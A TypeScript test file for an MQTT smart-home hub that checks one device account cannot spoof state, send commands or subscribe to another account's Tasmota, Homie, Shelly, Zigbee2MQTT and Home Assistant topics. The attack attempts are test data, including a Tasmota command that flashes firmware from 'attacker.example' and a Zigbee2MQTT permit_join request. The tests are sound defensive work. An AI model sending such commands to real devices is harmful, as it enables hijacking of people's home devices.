import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import type { MqttClient } from 'mqtt';
import { connect, deviceAccount, end, publish, startHub, subscribe, tempDir, waitFor, type TestHub } from '../helpers/hub.js';
import { loadFixture, payloadText } from '../helpers/fixtures.js';

// Issue 15 item 1: every convention's whole topic space belongs to the account that owns the device. The owner (an
// ordinary device account) announces its devices with the convention's fixture; another device account then tries
// what an attacker on the home network would: spoof state, send commands, rewrite descriptions, empty the Zigbee
// device list, open permit-join, and follow the command topics. An admin watching `#` shows what got through.

const admin = { username: 'admin', password: 'test-admin-password' };

interface Scene {
  hub: TestHub;
  owner: MqttClient;
  attacker: MqttClient;
  /** Topics the admin watcher saw, in order. */
  seen: string[];
}

async function scene(t: { after(fn: () => unknown): void }, fixture: string, hubDir?: string): Promise<Scene> {
  const hub = await startHub({}, hubDir ? { dataDir: hubDir } : {});
  t.after(() => hub.stop());
  const watcher = await connect(hub.mqttUrl, admin);
  t.after(() => end(watcher));
  await subscribe(watcher, '#');
  const seen: string[] = [];
  watcher.on('message', (topic) => seen.push(topic));
  const owner = await connect(hub.mqttUrl, await account(hub, 'owner-device'));
  t.after(() => end(owner));
  const attacker = await connect(hub.mqttUrl, await account(hub, 'attacker'));
  t.after(() => end(attacker));
  if (fixture) await replay(hub, owner, fixture);
  // Everything the owner sent has reached the watcher before the attacker starts.
  await publish(owner, 'owner-own/marker', 'x');
  await waitFor(() => seen.includes('owner-own/marker'), 5000, 'the owner\'s marker');
  return { hub, owner, attacker, seen };
}

/** A device account as `devices add` makes it; after a restart, the same account with a new password. */
async function account(hub: TestHub, username: string): Promise<{ username: string; password: string }> {
  if (await hub.hub.store.accounts.get(username)) return { username, password: (await hub.hub.store.accounts.rotate(username)) };
  return deviceAccount(hub, username);
}

async function replay(hub: TestHub, client: MqttClient, file: string): Promise<void> {
  for (const entry of loadFixture(file)) {
    if ((entry as { direction?: string }).direction === 'hub-to-device') continue;
    await publish(client, entry.topic, payloadText(entry.payload), { retain: entry.retain ?? false });
  }
  await waitFor(() => hub.hub.registry.list().some((d) => d.convention !== 'native' && d.owner === 'owner-device'));
}

/** Publishes each attempt, then a marker on the attacker's own topic: once the watcher has the marker, all were routed. */
async function attempt(s: Scene, attempts: Array<[string, string]>, opts: { retain?: boolean } = {}): Promise<string[]> {
  const from = s.seen.length;
  for (const [topic, payload] of attempts) await publish(s.attacker, topic, payload, opts);
  const marker = `attacker-own/marker-${Math.random().toString(36).slice(2)}`;
  await publish(s.attacker, marker, 'x');
  await waitFor(() => s.seen.includes(marker), 5000, 'the marker');
  return s.seen.slice(from).filter((topic) => topic !== marker);
}

function deviceOf(s: Scene, convention: string) {
  const device = s.hub.hub.registry.list().find((d) => d.convention === convention);
  assert.ok(device, `a ${convention} device`);
  assert.equal(device.owner, 'owner-device');
  return device;
}

test('Tasmota: cmnd/stat/tele of a device are its account\'s; the state request at discovery goes out', async (t) => {
  const s = await scene(t, '');
  // The device follows its command topics before it announces itself, as Tasmota does at connect.
  await subscribe(s.owner, 'cmnd/tasmota_F17F56/#');
  const commands: string[] = [];
  s.owner.on('message', (topic, payload) => commands.push(`${topic}=${payload}`));
  await replay(s.hub, s.owner, 'tasmota.json');
  await publish(s.owner, 'owner-own/marker2', 'x');
  await waitFor(() => s.seen.includes('owner-own/marker2'), 5000, 'the owner\'s marker');
  const device = deviceOf(s, 'tasmota');
  // ConventionUpdate.publish applied: Tasmota asks for the relay states once discovery is read.
  await waitFor(() => commands.includes('cmnd/tasmota_F17F56/STATE='), 5000, 'the State request');
  const power = s.hub.hub.states.value(device.id, 'power');
  assert.equal(typeof power, 'boolean');

  const through = await attempt(s, [
    ['stat/tasmota_F17F56/POWER', power ? 'OFF' : 'ON'],
    ['tele/tasmota_F17F56/STATE', JSON.stringify({ POWER: power ? 'OFF' : 'ON' })],
    ['tele/tasmota_F17F56/LWT', 'Offline'],
    ['cmnd/tasmota_F17F56/Backlog', 'OtaUrl http://attacker.example/fw.bin; Upgrade 1'],
    ['tasmota/discovery/E09806F17F56/config', ''],
  ]);
  assert.deepEqual(through, [], 'nothing of the attacker reached the device\'s topics');
  assert.equal(s.hub.hub.states.value(device.id, 'power'), power);
  assert.ok(!commands.some((c) => c.includes('Backlog')));
  await assert.rejects(subscribe(s.attacker, 'cmnd/tasmota_F17F56/#'), /Subscribe error/);
  await assert.rejects(subscribe(s.attacker, 'stat/tasmota_F17F56/RESULT'), /Subscribe error/);
  assert.ok(s.hub.hub.registry.get(device.id));
});

test('Homie: homie/5/<id>/# is the device\'s account\'s: no spoofed value, command or rewritten $description', async (t) => {
  const s = await scene(t, 'homie5.json');
  const device = deviceOf(s, 'homie');
  const brightness = s.hub.hub.states.value(device.id, 'brightness');
  const through = await attempt(s, [
    ['homie/5/kitchen-light/light/brightness', '99'],
    ['homie/5/kitchen-light/light/brightness/set', '1'],
    ['homie/5/kitchen-light/$description', JSON.stringify({ homie: '5.0', version: 2, name: 'Taken', nodes: {} })],
    ['homie/5/kitchen-light/$state', 'lost'],
  ]);
  assert.deepEqual(through, []);
  assert.equal(s.hub.hub.states.value(device.id, 'brightness'), brightness);
  assert.notEqual(s.hub.hub.registry.get(device.id)!.name, 'Taken');
  await assert.rejects(subscribe(s.attacker, 'homie/5/kitchen-light/+/+/set'), /Subscribe error/);
});

test('Shelly: <prefix>/# is the device\'s account\'s: no spoofed status, no command', async (t) => {
  const s = await scene(t, 'shelly-gen2.json');
  const device = deviceOf(s, 'shelly');
  const output = s.hub.hub.states.value(device.id, 'switch:0');
  assert.equal(typeof output, 'boolean');
  const through = await attempt(s, [
    ['shellyplus1-a8032ab12345/status/switch:0', JSON.stringify({ id: 0, output: !output })],
    ['shellyplus1-a8032ab12345/command/switch:0', 'off'],
    ['shellyplus1-a8032ab12345/rpc', JSON.stringify({ id: 1, src: 'x', method: 'Shelly.Update', params: {} })],
    ['shellyplus1-a8032ab12345/online', 'false'],
  ]);
  assert.deepEqual(through, []);
  assert.equal(s.hub.hub.states.value(device.id, 'switch:0'), output);
  await assert.rejects(subscribe(s.attacker, 'shellyplus1-a8032ab12345/command/+'), /Subscribe error/);
  await assert.rejects(subscribe(s.attacker, 'shellyplus1-a8032ab12345/rpc'), /Subscribe error/);
});

test('Zigbee2MQTT: the bridge\'s base topic is its account\'s: no emptied device list, no permit_join, no remove', async (t) => {
  const s = await scene(t, 'zigbee2mqtt.json');
  deviceOf(s, 'zigbee2mqtt');
  const before = s.hub.hub.registry.list().filter((d) => d.convention === 'zigbee2mqtt').length;
  const through = await attempt(s, [
    ['zigbee2mqtt/bridge/devices', '[]'],
    ['zigbee2mqtt/bridge/request/permit_join', JSON.stringify({ time: 254 })],
    ['zigbee2mqtt/bridge/request/device/remove', JSON.stringify({ id: 'livingroom/ceiling', force: true })],
    ['zigbee2mqtt/livingroom/ceiling/set', JSON.stringify({ state: 'OFF' })],
    ['zigbee2mqtt/livingroom/ceiling', JSON.stringify({ state: 'OFF', brightness: 1 })],
  ]);
  assert.deepEqual(through, []);
  assert.equal(s.hub.hub.registry.list().filter((d) => d.convention === 'zigbee2mqtt').length, before);
  await assert.rejects(subscribe(s.attacker, 'zigbee2mqtt/bridge/request/#'), /Subscribe error/);
  await assert.rejects(subscribe(s.attacker, 'zigbee2mqtt/#'), /Subscribe error/);
  await subscribe(s.owner, 'zigbee2mqtt/#'); // the bridge follows its own base topic
  await assert.rejects(subscribe(s.attacker, 'zigbee2mqtt/livingroom/ceiling/set'), /Subscribe error/);
});

test('Home Assistant: a device\'s discovery, state and command topics are its account\'s, also after a restart', async (t) => {
  const dir = tempDir();
  const hubs: TestHub[] = [];
  t.after(async () => {
    for (const hub of hubs) await hub.stop();
    fs.rmSync(dir, { recursive: true, force: true });
  });
  {
    const s = await scene(t, 'homeassistant-discovery.json', dir);
    hubs.push(s.hub);
    const through = await attempt(s, [['homeassistant/light/kitchen/config', ''], ['homeassistant/light/kitchen/state', 'OFF']]);
    assert.deepEqual(through, []);
    await Promise.all([end(s.owner), end(s.attacker)]);
    await s.hub.hub.stop();
  }
  // After a restart the configs are known again only once the retained messages are replayed: still owned.
  const s = await scene(t, '', dir);
  hubs.push(s.hub);
  const through = await attempt(s, [
    ['homeassistant/light/kitchen/config', ''],
    ['homeassistant/device/kitchen-sensor-02/config', JSON.stringify({ dev: { ids: ['x'] }, o: { name: 'x' }, cmps: {} })],
    ['ourhome/groundfloor/livingroom/lamp/set', 'ON'],
  ]);
  assert.deepEqual(through, []);
});
